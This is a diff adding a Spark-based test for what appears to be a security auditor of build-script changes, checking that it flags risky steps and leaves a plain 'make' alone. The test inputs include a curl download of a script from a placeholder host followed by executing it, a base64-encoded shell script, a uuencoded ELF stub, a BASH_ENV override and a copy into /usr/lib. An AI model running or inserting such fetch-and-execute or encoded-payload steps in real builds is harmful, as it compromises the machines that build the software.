@@ -169,6 +169,19 @@ def test_audit(spark):
     assert got[4].score == 100 and got[4].band == "Critical" and got[1].score >= 40 and got[1].band == "High" and got[5].gaps == "oversized_line" and got[5].band == "Inconclusive"
 
 
+def test_audit_unites_all_findings(spark):
+    import base64
+    import binascii
+
+    blob = base64.b64encode(b"#!/bin/sh\nrm x\n" + bytes(9)).decode()
+    uu = ["cat > a <<E", "begin 644 a", binascii.b2a_uu(b"\x7fELF" + bytes(9)).decode().strip(), "`", "end", "E"]
+    fetched = ["  curl -o run.sh https://x.example/run.sh", "  sh run.sh", "  cp a \"/usr/lib/a\"", "  export BASH_ENV=./x", "  npm install left-pad"]
+    df = spark.createDataFrame([(i, diff("build() {", *own, "}")) for i, own in enumerate([fetched, [f"  x={blob}"], uu, ["  make"]])], "id long, text string")
+    got = {r.id: set(r.rules.split(",")) for r in audit(df, "id", "text").collect()}
+    assert {"R137", "R061", "R072", "R089", "X007"} <= got[0] and "R120" in got[1] and "R120" in got[2]
+    assert not {"R137", "R120", "R072", "R089", "X007"} & got[3]
+
+
 def one(spark, column, value, kind="string"):
     return spark.createDataFrame([(value,)], f"v {kind}").select(column(F.col("v"))).collect()[0][0]
 
